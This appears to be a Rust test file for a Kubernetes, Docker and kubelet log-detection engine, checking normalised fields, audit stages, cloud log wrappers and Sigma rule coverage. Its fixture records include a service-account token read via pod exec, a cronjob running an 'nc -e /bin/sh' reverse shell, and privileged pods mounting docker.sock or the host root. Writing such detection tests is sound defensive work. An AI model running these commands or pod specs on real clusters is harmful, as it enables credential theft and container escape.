//! Kubernetes audit (raw, EKS, GKE, AKS, Azure Activity), docker daemon and kubelet sources:
//! normalised fields, stage handling, the fixtures of each source, the Sigma rules' positive
//! fixtures, the public negatives and the prefilter's selectivity.

mod common;

use common::shared_dir as shared;
use common::{lines, strip_expect};
use std::fs;
use std::path::{Path, PathBuf};

use cadet_core::parts::event::Value;
use cadet_core::parts::text::Json;
use cadet_core::{Config, Engine, Verdict};

const SOURCES: [(&str, &[&str]); 6] = [
    ("k8s_audit", &["k8s_audit"]),
    ("k8s_eks", &["k8s_eks"]),
    ("k8s_gke", &["k8s_gke"]),
    ("k8s_aks", &["k8s_aks", "k8s_azure_activity"]),
    ("docker_daemon", &["docker_daemon"]),
    ("kubelet", &["kubelet"]),
];

/// Without the set of scored requests: these tests score one event in several wrappers or
/// shapes and compare the verdicts (the set is tested in audit_stages.rs).
fn engine() -> Engine {
    Engine::new(&Config {
        scored_requests: 0,
        ..Config::default()
    })
    .unwrap()
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

fn files(dir: &str, kind: &str) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = fs::read_dir(fixtures().join(dir))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy().into_owned();
            n.contains(&format!(".{kind}.")) && (n.ends_with(".jsonl") || n.ends_with(".log"))
        })
        .collect();
    out.sort();
    out
}

/// A field of the normalised event of a JSON record.
fn field(record: &str, name: &str) -> String {
    let doc = Json::parse(record.as_bytes()).unwrap();
    let ev = cadet_core::parts::source::normalise(&doc).expect("normalised");
    show(ev.field(name, 0))
}

fn text_field(line: &str, name: &str) -> String {
    let ev = cadet_core::parts::source::normalise_text(line).expect("normalised");
    show(ev.field(name, 0))
}

fn show(v: Value<'_>) -> String {
    match v {
        Value::Missing => "-".into(),
        Value::Bool(b) => b.to_string(),
        Value::Int(i) => i.to_string(),
        Value::Str(s) => s.to_string(),
        Value::List(l) => l.join(","),
    }
}

fn ids(v: &Verdict) -> Vec<&str> {
    v.rules.iter().map(|r| r.id.as_str()).collect()
}

#[test]
fn every_source_has_attack_and_benign_fixtures_read_by_its_normaliser() {
    let mut e = engine();
    for (dir, names) in SOURCES {
        let attacks = files(dir, "attack");
        let benign = files(dir, "benign");
        assert!(
            !attacks.is_empty() && !benign.is_empty(),
            "{dir}: needs attack and benign fixtures"
        );
        let mut n = 0;
        for path in attacks {
            // Scored without `_expect`, as every harness does.
            for line in lines(&path).iter().map(|l| strip_expect(l)) {
                let v = e.score(line.as_bytes());
                assert!(v.matched, "{}: {line}", path.display());
                let src = v.source.clone().unwrap();
                assert!(
                    names.contains(&src.as_str()),
                    "{}: read by {src}, expected one of {names:?}",
                    path.display()
                );
                n += 1;
            }
        }
        assert!(n >= 5, "{dir}: only {n} attack records");
        for path in benign {
            // Scored without `_expect`, as every harness does.
            for line in lines(&path).iter().map(|l| strip_expect(l)) {
                let v = e.score(line.as_bytes());
                assert!(!v.matched, "{}: {line} -> {}", path.display(), v.to_json());
                assert!(v.error.is_none(), "{}: {:?}", path.display(), v.error);
            }
        }
    }
}

#[test]
fn audit_event_fields() {
    let rec = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"a1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=web&stdin=true","verb":"create","user":{"username":"system:serviceaccount:ci:runner","groups":["system:serviceaccounts","system:authenticated"],"extra":{"authentication.kubernetes.io/pod-name":["runner-1"]}},"impersonatedUser":{"username":"admin"},"sourceIPs":["10.1.2.3","192.0.2.1"],"userAgent":"kubectl/v1.30.2","objectRef":{"resource":"pods","namespace":"prod","name":"web-0","subresource":"exec","apiGroup":"","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":"2025-06-12T10:00:00.000000Z","stageTimestamp":"2025-06-12T10:00:01.500000Z","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}"#;
    let want = [
        ("event.kind", "k8s_audit"),
        ("event.source", "k8s_audit"),
        ("user.name", "system:serviceaccount:ci:runner"),
        ("user.groups", "system:serviceaccounts,system:authenticated"),
        ("source.ip", "10.1.2.3,192.0.2.1"),
        ("user_agent", "kubectl/v1.30.2"),
        ("event.time", "1749722401"),
        ("k8s.verb", "create"),
        ("k8s.resource", "pods"),
        ("k8s.subresource", "exec"),
        ("k8s.namespace", "prod"),
        ("k8s.name", "web-0"),
        ("k8s.api_group", "-"),
        ("k8s.status_code", "101"),
        ("k8s.decision", "allow"),
        ("k8s.stage", "ResponseComplete"),
        ("k8s.impersonated_user", "admin"),
        ("k8s.pod_token", "true"),
        (
            "payload.args",
            "sh,-c,cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
        ("payload.sa_token", "true"),
        ("payload.shell", "true"),
    ];
    for (name, value) in want {
        assert_eq!(field(rec, name), value, "{name}");
    }
}

#[test]
fn pod_specs_of_pods_workloads_cronjobs_and_patches() {
    let pod = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","requestURI":"/api/v1/namespaces/d/pods","user":{"username":"bob"},"objectRef":{"resource":"pods","namespace":"d","name":"p"},"responseStatus":{"code":201},"requestObject":{"metadata":{"name":"p","labels":{"run":"p"}},"spec":{"hostPID":true,"hostNetwork":true,"volumes":[{"name":"a","hostPath":{"path":"/var/run//docker.sock/"}},{"name":"b","hostPath":{"path":"/srv/data"}},{"name":"c","emptyDir":{}}],"securityContext":{"runAsUser":0},"containers":[{"name":"c","image":"alpine:3.20","stdin":true,"tty":true,"command":["sh"],"securityContext":{"privileged":true,"capabilities":{"add":["CAP_SYS_ADMIN","net_admin"]},"allowPrivilegeEscalation":true}}]}}}"#;
    let want = [
        ("k8s.pod.present", "true"),
        ("k8s.pod.privileged", "true"),
        ("k8s.pod.host_pid", "true"),
        ("k8s.pod.host_network", "true"),
        ("k8s.pod.host_ipc", "false"),
        ("k8s.pod.host_paths", "/var/run/docker.sock,/srv/data"),
        ("k8s.pod.sensitive_host_paths", "/var/run/docker.sock"),
        ("k8s.pod.capabilities", "SYS_ADMIN,NET_ADMIN"),
        ("k8s.pod.allow_privilege_escalation", "true"),
        ("k8s.pod.run_as_root", "true"),
        ("k8s.pod.images", "alpine:3.20"),
        ("k8s.pod.interactive", "true"),
        ("k8s.pod.owned", "false"),
        ("k8s.object.labels", "run=p"),
        ("payload.shell", "true"),
    ];
    for (name, value) in want {
        assert_eq!(field(pod, name), value, "{name}");
    }
    let cron = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","requestURI":"/apis/batch/v1/namespaces/d/cronjobs","user":{"username":"bob"},"objectRef":{"resource":"cronjobs","namespace":"d","apiGroup":"batch"},"requestObject":{"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"hostIPC":true,"containers":[{"name":"x","image":"busybox","args":["sh","-c","nc -e /bin/sh 203.0.113.1 4444"]}]}}}}}}}"#;
    assert_eq!(field(cron, "k8s.pod.host_ipc"), "true");
    assert_eq!(field(cron, "payload.reverse_shell"), "true");
    assert_eq!(field(cron, "k8s.api_group"), "batch");
    let patch = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"patch","requestURI":"/apis/apps/v1/namespaces/d/deployments/web","user":{"username":"bob"},"objectRef":{"resource":"deployments","namespace":"d","name":"web","apiGroup":"apps"},"requestObject":[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"s","image":"evil/s","securityContext":{"privileged":true}}},{"op":"add","path":"/spec/template/spec/volumes/-","value":{"name":"h","hostPath":{"path":"/"}}},{"op":"replace","path":"/spec/template/spec/hostPID","value":true}]}"#;
    assert_eq!(field(patch, "k8s.adds_container"), "true");
    assert_eq!(field(patch, "k8s.pod.privileged"), "true");
    assert_eq!(field(patch, "k8s.pod.sensitive_host_paths"), "/");
    assert_eq!(field(patch, "k8s.pod.host_pid"), "true");
    // An image bump (name + image only) is not a sidecar.
    let bump = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"patch","requestURI":"/apis/apps/v1/namespaces/d/deployments/web","user":{"username":"bob"},"objectRef":{"resource":"deployments","namespace":"d","name":"web","apiGroup":"apps"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"web:2"}]}}}}}"#;
    assert_eq!(field(bump, "k8s.adds_container"), "false");
    // A pod made by a controller is `owned`; an ephemeral container added to it is not.
    let owned = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","requestURI":"/api/v1/namespaces/d/pods","user":{"username":"system:serviceaccount:kube-system:replicaset-controller"},"objectRef":{"resource":"pods","namespace":"d"},"requestObject":{"metadata":{"ownerReferences":[{"kind":"ReplicaSet","name":"w"}]},"spec":{"containers":[{"name":"w","image":"w","securityContext":{"privileged":true}}]}}}"#;
    assert_eq!(field(owned, "k8s.pod.owned"), "true");
    let eph = owned
        .replace(
            "\"resource\":\"pods\"",
            "\"resource\":\"pods\",\"subresource\":\"ephemeralcontainers\"",
        )
        .replace("\"verb\":\"create\"", "\"verb\":\"patch\"");
    assert_eq!(field(&eph, "k8s.pod.owned"), "false");
}

/// A request that is not long-running is scored at its final stage only (`ResponseComplete`,
/// `Panic`, or a record without a stage); long-running ones (exec, attach, port-forward,
/// proxy, watch) at every stage, counted once: core/tests/audit_stages.rs.
#[test]
fn a_request_that_is_not_long_running_is_scored_at_its_final_stage() {
    let mut e = engine();
    let base = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"same-id","stage":"STAGE","requestURI":"/api/v1/namespaces/d/secrets/db-password","verb":"get","user":{"username":"bob"},"sourceIPs":["10.0.0.1"],"userAgent":"kubectl/v1.30.2","objectRef":{"resource":"secrets","namespace":"d","name":"db-password","apiVersion":"v1"},"responseStatus":{"code":200},"annotations":{"authorization.k8s.io/decision":"allow"}}"#;
    let verdicts: Vec<Verdict> = [
        "RequestReceived",
        "ResponseStarted",
        "ResponseComplete",
        "Panic",
    ]
    .iter()
    .map(|s| e.score(base.replace("STAGE", s).as_bytes()))
    .collect();
    assert!(!verdicts[0].matched && !verdicts[1].matched);
    assert!(verdicts[2].matched && ids(&verdicts[2]).contains(&"cadet.k8s.secrets_read"));
    assert_eq!(verdicts[2].stage.as_deref(), Some("ResponseComplete"));
    assert!(verdicts[3].matched, "a Panic record is the request's last");
    // The single stage a policy may log (no `stage` key) is scored too.
    let no_stage = base.replace("\"stage\":\"STAGE\",", "");
    let v = e.score(no_stage.as_bytes());
    assert!(v.matched && v.stage.is_none());
    // GKE: of a first/last pair of a call that is not long-running, the last is scored.
    let gke = |first: bool, last: bool| {
        format!(
            r#"{{"operation":{{"first":{first},"last":{last},"id":"x","producer":"k8s.io"}},"protoPayload":{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{{"principalEmail":"a@b.c"}},"methodName":"io.k8s.core.v1.secrets.get","resourceName":"core/v1/namespaces/d/secrets/db-password","serviceName":"k8s.io","requestMetadata":{{"callerIp":"1.2.3.4","callerSuppliedUserAgent":"kubectl/v1.30.2"}}}},"timestamp":"2025-01-01T00:00:00Z"}}"#
        )
    };
    assert!(!e.score(gke(true, false).as_bytes()).matched);
    assert!(e.score(gke(false, true).as_bytes()).matched);
    assert!(e.score(gke(true, true).as_bytes()).matched);
}

#[test]
fn cloud_wrappers_unwrap_the_same_event() {
    let raw = lines(&fixtures().join("k8s_audit/apiserver.attack.jsonl"))[0].clone();
    let mut ev: serde_json::Value = serde_json::from_str(&raw).unwrap();
    ev.as_object_mut().unwrap().remove("_expect");
    let inner = ev.to_string();
    let wrappers = [
        (
            "k8s_eks",
            serde_json::json!({"message": inner, "timestamp": 1, "logStreamName": "kube-apiserver-audit-abc"}),
        ),
        (
            "k8s_eks",
            serde_json::json!({"messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/c/cluster", "logStream": "kube-apiserver-audit-abc", "logEvents": [{"id": "1", "timestamp": 1, "message": inner}]}),
        ),
        (
            "k8s_aks",
            serde_json::json!({"category": "kube-audit", "properties": {"log": inner, "pod": "kube-apiserver-1"}}),
        ),
        (
            "k8s_aks",
            serde_json::json!({"category": "kube-audit-admin", "properties": {"log": ev.clone()}}),
        ),
        (
            "k8s_aks",
            serde_json::json!({"records": [{"category": "kube-audit", "properties": {"log": inner}}]}),
        ),
        (
            "k8s_audit",
            serde_json::json!({"log": inner, "stream": "stdout", "time": "2025-06-12T10:00:00Z"}),
        ),
    ];
    let mut e = engine();
    let direct = e.score(inner.as_bytes());
    for (source, w) in wrappers {
        let v = e.score(w.to_string().as_bytes());
        assert_eq!(v.source.as_deref(), Some(source), "{w}");
        assert_eq!(
            (v.score, ids(&v), &v.flags, &v.indicators),
            (
                direct.score,
                ids(&direct),
                &direct.flags,
                &direct.indicators
            ),
            "{w}"
        );
    }
    // A batch of several events is not guessed at: the host splits it.
    let many = serde_json::json!({"messageType": "DATA_MESSAGE", "logEvents": [{"message": inner}, {"message": inner}]});
    assert!(!e.score(many.to_string().as_bytes()).matched);
}

#[test]
fn gke_and_azure_names_are_read_into_verb_and_resource() {
    let g = r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"a@b.c"},"authorizationInfo":[{"granted":true}],"methodName":"io.k8s.authorization.rbac.v1.clusterrolebindings.create","resourceName":"rbac.authorization.k8s.io/v1/clusterrolebindings/x","serviceName":"k8s.io","status":{"code":0},"request":{"roleRef":{"name":"cluster-admin"}}},"labels":{"authorization.k8s.io/decision":"allow"},"timestamp":"2025-01-01T00:00:00Z"}"#;
    assert_eq!(field(g, "k8s.verb"), "create");
    assert_eq!(field(g, "k8s.resource"), "clusterrolebindings");
    assert_eq!(field(g, "k8s.api_group"), "rbac.authorization.k8s.io");
    assert_eq!(field(g, "k8s.role_ref"), "cluster-admin");
    assert_eq!(field(g, "k8s.status_code"), "200");
    assert_eq!(field(g, "event.time"), "1735689600");
    let formats =
        lines(&shared().join("formats/k8s_audit_cloud/test-k8s-nonmatching-resourcename.log"));
    for f in &formats {
        assert_eq!(field(f, "event.source"), "k8s_gke");
        assert_eq!(field(f, "k8s.decision"), "forbid");
        assert_eq!(field(f, "k8s.status_code"), "403");
        assert_eq!(field(f, "user.name"), "system:anonymous");
        assert_eq!(field(f, "k8s.verb"), "get");
        assert_eq!(field(f, "source.ip"), "192.168.1.1");
    }
    let a = |op: &str| {
        format!(
            r#"{{"operationName":"{op}","caller":"e@x.y","callerIpAddress":"1.2.3.4","resultType":"Success","category":"Administrative","time":"2025-01-01T00:00:00Z"}}"#
        )
    };
    for (op, verb, resource, sub, group) in [
        ("MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/RBAC.AUTHORIZATION.K8S.IO/CLUSTERROLES/BIND/ACTION", "bind", "clusterroles", "-", "rbac.authorization.k8s.io"),
        ("MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/PODS/DELETE", "delete", "pods", "-", "-"),
        ("MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/WRITE", "write", "connectedclusters", "-", "-"),
        ("Microsoft.Kubernetes/connectedClusters/pods/exec/action", "create", "pods", "exec", "-"),
        ("MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE", "write", "cronjobs", "-", "batch"),
    ] {
        let r = a(op);
        assert_eq!((field(&r, "k8s.verb"), field(&r, "k8s.resource"), field(&r, "k8s.subresource"), field(&r, "k8s.api_group")), (verb.into(), resource.into(), sub.into(), group.into()), "{op}");
        assert_eq!(field(&r, "event.source"), "k8s_azure_activity");
    }
}

#[test]
fn docker_and_kubelet_lines() {
    let ev = r#"{"status":"exec_start: sh -c id","id":"c1","from":"alpine","Type":"container","Action":"exec_start: sh -c id","Actor":{"ID":"c1","Attributes":{"execID":"e1","image":"alpine","name":"web"}},"scope":"local","time":1749722400,"timeNano":1749722400123456789}"#;
    assert_eq!(field(ev, "docker.action"), "exec_start");
    assert_eq!(field(ev, "docker.container"), "web");
    assert_eq!(field(ev, "payload.args"), "sh,-c,id");
    assert_eq!(field(ev, "event.time"), "1749722400");
    let call = r#"time="2025-06-12T10:11:12.1Z" level=debug msg="Calling POST /v1.45/containers/4f2a/exec""#;
    assert_eq!(text_field(call, "docker.action"), "exec");
    assert_eq!(text_field(call, "docker.container"), "4f2a");
    assert_eq!(text_field(call, "event.time"), "1749723072");
    let start =
        r#"time="2025-06-12T10:11:12.1Z" level=debug msg="Calling POST /v1.45/exec/9b8a/start""#;
    assert_eq!(text_field(start, "docker.action"), "exec/start");
    let body = r#"time="2025-06-12T10:11:12.1Z" level=debug msg="form data: {\"Image\":\"alpine\",\"Cmd\":[\"sh\"],\"HostConfig\":{\"Binds\":[\"/etc:/h:ro\",\"vol:/v\"],\"PidMode\":\"host\",\"CapAdd\":[\"cap_sys_ptrace\"]}}""#;
    assert_eq!(text_field(body, "docker.action"), "containers/create");
    assert_eq!(text_field(body, "k8s.pod.sensitive_host_paths"), "/etc");
    assert_eq!(text_field(body, "k8s.pod.host_pid"), "true");
    assert_eq!(text_field(body, "k8s.pod.capabilities"), "SYS_PTRACE");
    let kl = r#"I0612 10:11:12.123456    2345 httplog.go:134] "HTTP" verb="POST" URI="/exec/ns1/pod1/c1?command=id&output=1" latency="1ms" userAgent="kubeletctl" audit-ID="" srcIP="10.0.9.9:51234" resp=101"#;
    for (name, value) in [
        ("event.kind", "kubelet"),
        ("k8s.subresource", "exec"),
        ("k8s.namespace", "ns1"),
        ("k8s.name", "pod1"),
        ("user_agent", "kubeletctl"),
        ("source.ip", "10.0.9.9"),
        ("k8s.status_code", "101"),
        ("payload.args", "id"),
    ] {
        assert_eq!(text_field(kl, name), value, "{name}");
    }
    let old = "I0612 10:11:12.123456 2345 logs.go:41] GET /runningpods/: (1.3ms) 200 [curl/7.88.1 [fd00::5]:40490]";
    assert_eq!(text_field(old, "k8s.subresource"), "runningpods");
    assert_eq!(text_field(old, "user_agent"), "curl/7.88.1");
    assert_eq!(text_field(old, "source.ip"), "fd00::5");
}

/// Sigma rule (file) → the cadet rule its positive fixture must hit (table in docs/kubernetes.md).
const SIGMA: &[(&str, &str)] = &[
    (
        "kubernetes_audit/kubernetes_audit_change_admission_controller.yml",
        "cadet.k8s.admission_webhook_change",
    ),
    (
        "kubernetes_audit/kubernetes_audit_cronjob_modification.yml",
        "cadet.k8s.cronjob_change",
    ),
    (
        "kubernetes_audit/kubernetes_audit_deployment_deleted.yml",
        "cadet.k8s.workload_deleted",
    ),
    (
        "kubernetes_audit/kubernetes_audit_events_deleted.yml",
        "cadet.k8s.events_deleted",
    ),
    (
        "kubernetes_audit/kubernetes_audit_exec_into_container.yml",
        "cadet.k8s.pod_exec",
    ),
    (
        "kubernetes_audit/kubernetes_audit_hostpath_mount.yml",
        "cadet.workload.host_path_mount",
    ),
    (
        "kubernetes_audit/kubernetes_audit_pod_in_system_namespace.yml",
        "cadet.k8s.pod_in_kube_system",
    ),
    (
        "kubernetes_audit/kubernetes_audit_potential_enumeration_activity.yml",
        "cadet.k8s.attack_tool_agent",
    ),
    (
        "kubernetes_audit/kubernetes_audit_privileged_pod_creation.yml",
        "cadet.workload.dangerous_capability",
    ),
    (
        "kubernetes_audit/kubernetes_audit_rbac_permisions_listing.yml",
        "cadet.k8s.permission_review",
    ),
    (
        "kubernetes_audit/kubernetes_audit_rolebinding_modification.yml",
        "cadet.k8s.rbac_binding_change",
    ),
    (
        "kubernetes_audit/kubernetes_audit_secrets_enumeration.yml",
        "cadet.k8s.secrets_list",
    ),
    (
        "kubernetes_audit/kubernetes_audit_secrets_modified_or_deleted.yml",
        "cadet.k8s.secrets_modified",
    ),
    (
        "kubernetes_audit/kubernetes_audit_serviceaccount_creation.yml",
        "cadet.k8s.serviceaccount_change",
    ),
    (
        "kubernetes_audit/kubernetes_audit_sidecar_injection.yml",
        "cadet.k8s.sidecar_injection",
    ),
    (
        "kubernetes_audit/kubernetes_audit_unauthorized_unauthenticated_actions.yml",
        "cadet.k8s.denied_request",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_admission_controller.yml",
        "cadet.k8s.admission_webhook_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_cluster_created_or_deleted.yml",
        "cadet.k8s.cluster_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_cronjob.yml",
        "cadet.k8s.cronjob_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_events_deleted.yml",
        "cadet.k8s.events_deleted",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_network_policy_change.yml",
        "cadet.k8s.network_policy_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_pods_deleted.yml",
        "cadet.k8s.workload_deleted",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_role_access.yml",
        "cadet.k8s.role_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_rolebinding_modified_or_deleted.yml",
        "cadet.k8s.rbac_binding_change",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_secret_or_config_object_access.yml",
        "cadet.k8s.secrets_modified",
    ),
    (
        "cloud_kubernetes/azure_kubernetes_service_account_modified_or_deleted.yml",
        "cadet.k8s.serviceaccount_change",
    ),
    (
        "cloud_kubernetes/gcp_breakglass_container_workload_deployed.yml",
        "cadet.k8s.breakglass_workload",
    ),
    (
        "cloud_kubernetes/gcp_kubernetes_admission_controller.yml",
        "cadet.k8s.admission_webhook_change",
    ),
    (
        "cloud_kubernetes/gcp_kubernetes_cronjob.yml",
        "cadet.k8s.cronjob_change",
    ),
    (
        "cloud_kubernetes/gcp_kubernetes_rolebinding.yml",
        "cadet.k8s.rbac_binding_change",
    ),
    (
        "cloud_kubernetes/gcp_kubernetes_secrets_modified_or_deleted.yml",
        "cadet.k8s.secrets_modified",
    ),
];

/// The fixture folder whose records stand for a Sigma rule's log source.
fn sigma_fixture_dir(file: &str) -> &'static str {
    if file.starts_with("cloud_kubernetes/azure") {
        "k8s_aks"
    } else if file.starts_with("cloud_kubernetes/gcp") {
        "k8s_gke"
    } else {
        "k8s_audit"
    }
}

#[test]
fn every_sigma_kubernetes_rule_has_a_positive_fixture_that_cadet_detects() {
    let dir = shared().join("sigma");
    let mut on_disk: Vec<String> = ["kubernetes_audit", "cloud_kubernetes"]
        .iter()
        .flat_map(|d| {
            fs::read_dir(dir.join(d))
                .unwrap()
                .map(move |e| format!("{d}/{}", e.unwrap().file_name().to_string_lossy()))
        })
        .filter(|f| f.ends_with(".yml"))
        .collect();
    on_disk.sort();
    let mut mapped: Vec<String> = SIGMA.iter().map(|(f, _)| f.to_string()).collect();
    mapped.sort();
    assert_eq!(
        on_disk, mapped,
        "every Sigma Kubernetes rule is mapped to a cadet rule"
    );
    let mut e = engine();
    for (file, rule) in SIGMA {
        let fdir = sigma_fixture_dir(file);
        let hit = files(fdir, "attack")
            .iter()
            .flat_map(|p| lines(p))
            .map(|l| strip_expect(&l))
            .any(|l| {
                let v = e.score(l.as_bytes());
                v.matched && ids(&v).contains(rule)
            });
        assert!(hit, "{file}: no {fdir} attack fixture hits {rule}");
    }
}

#[test]
fn public_negatives_stay_quiet_and_benign_control_plane_traffic_is_never_parsed() {
    let mut e = engine();
    let neg = shared().join("negatives/elastic_integrations_k8s_audit");
    let mut n = 0;
    for f in fs::read_dir(&neg).unwrap() {
        for l in lines(&f.unwrap().path()) {
            let v = e.score(l.as_bytes());
            assert!(!v.matched, "{l}");
            n += 1;
        }
    }
    assert_eq!(n, 6);
    // The lease gets/updates and the healthcheck are rejected by the byte prefilter (the speed
    // design); the kubectl `get pods` passes it (its user agent) but no rule reaches the threshold.
    let negatives: Vec<String> = fs::read_dir(&neg)
        .unwrap()
        .flat_map(|f| lines(&f.unwrap().path()))
        .collect();
    let rejected = negatives.iter().filter(|l| e.rejects(l.as_bytes())).count();
    assert!(
        rejected >= 5,
        "only {rejected} of {} public negatives rejected unparsed",
        negatives.len()
    );
    for l in lines(&fixtures().join("k8s_audit/apiserver.benign.jsonl"))
        .iter()
        .filter(|l| l.contains("/leases/"))
    {
        assert!(
            e.rejects(l.as_bytes()),
            "lease traffic must not be parsed: {l}"
        );
    }
}

#[test]
fn k8s_rules_are_unreachable_without_a_prefilter_keyword() {
    // Every k8s attack fixture, with every keyword of the cadet prefilter blanked out, must no
    // longer match: the rule that matched needed one of the keywords (prefilter soundness is
    // checked the other way round by tests/fixtures.rs).
    let e = engine();
    let p = e.profile_def();
    let words: Vec<String> = p
        .prefilter
        .clone()
        .unwrap()
        .iter()
        .chain(&p.prefilter_control_plane)
        .map(|w| w.to_ascii_lowercase())
        .collect();
    let mut full = Engine::new(&Config {
        prefilter: false,
        ..Config::default()
    })
    .unwrap();
    for (dir, _) in SOURCES {
        for path in files(dir, "attack") {
            for line in lines(&path).iter().map(|l| strip_expect(l)) {
                let lower = line.to_ascii_lowercase();
                let mut blanked = line.clone().into_bytes();
                for w in &words {
                    for (at, _) in lower.match_indices(w.as_str()) {
                        blanked[at..at + w.len()].iter_mut().for_each(|b| *b = b'_');
                    }
                }
                // The record may no longer parse; a parse error is not a match either way.
                let v = full.score(&blanked);
                assert!(
                    !v.matched,
                    "{}: matched without any keyword: {} -> {}",
                    path.display(),
                    String::from_utf8_lossy(&blanked),
                    v.to_json()
                );
            }
        }
    }
}

/// Every record an API reader accepts carries one of `api::MARKERS` (so the prefilter may
/// search the profile's `prefilter_control_plane` keywords only there), and with the markers blanked out
/// no API reader accepts it any more.
#[test]
fn api_records_carry_a_source_marker() {
    use cadet_core::parts::event::EventKind;
    use cadet_core::parts::source::MARKERS;
    let mut checked = 0;
    for (dir, _) in SOURCES {
        for kind in ["attack", "benign"] {
            for path in files(dir, kind) {
                for line in lines(&path).iter().map(|l| strip_expect(l)) {
                    let lower = line.to_ascii_lowercase();
                    let is_api = |text: &str| -> bool {
                        let ev = match cadet_core::parts::text::Json::parse(text.as_bytes()) {
                            Ok(doc) if doc.is_object() => {
                                cadet_core::parts::source::normalise(&doc).map(|e| e.kind)
                            }
                            Ok(_) => None,
                            Err(_) => {
                                cadet_core::parts::source::normalise_text(text).map(|e| e.kind)
                            }
                        };
                        matches!(ev, Some(k) if k != EventKind::Process)
                    };
                    if !is_api(&line) {
                        continue;
                    }
                    checked += 1;
                    assert!(
                        MARKERS.iter().any(|m| lower.contains(m)),
                        "{}: no source marker in {line}",
                        path.display()
                    );
                    let mut blanked = line.clone().into_bytes();
                    for m in MARKERS {
                        for (at, _) in lower.match_indices(m) {
                            blanked[at..at + m.len()].iter_mut().for_each(|b| *b = b'_');
                        }
                    }
                    let blanked = String::from_utf8(blanked).unwrap();
                    assert!(
                        !is_api(&blanked),
                        "{}: still read as an API record without markers: {blanked}",
                        path.display()
                    );
                }
            }
        }
    }
    assert!(checked >= 150, "only {checked} API records checked");
}
